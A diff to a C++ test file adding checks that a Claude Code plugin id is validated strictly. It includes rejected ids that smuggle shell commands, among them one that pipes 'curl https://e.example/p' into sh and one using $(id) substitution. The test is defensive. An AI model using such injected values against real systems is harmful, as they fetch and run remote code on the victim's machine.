@@ -307,6 +307,12 @@ TEST_CASE("config: the Claude Code plugin's key comes last, from Claude Code's c
   CHECK(load_config(env_in(home)).api_key == std::optional<std::string>("m0-npm"));
   CHECK_FALSE(is_our_claude_plugin("mem0-native-hooks-npm"));
   CHECK_FALSE(is_our_claude_plugin("mem0-native-hooks@"));
+  // A plugin id is [A-Za-z0-9._@-] with one @: anything else is no plugin of ours.
+  CHECK(is_our_claude_plugin("mem0-native-hooks@mem0.local_2"));
+  for (const char *id : {"mem0-native-hooks@x; curl https://e.example/p|sh; #",
+                         "mem0-native-hooks@x y", "mem0-native-hooks@x$(id)",
+                         "mem0-native-hooks@a@b", "mem0-native-hooks@x'", "mem0-native-hooks@x\n"})
+    CHECK_FALSE(is_our_claude_plugin(id));
   // Lowest precedence: the environment and the shell profiles win.
   CHECK(load_config(env_in(home, {{"MEM0_API_KEY", "m0-env"}})).api_key ==
         std::optional<std::string>("m0-env"));
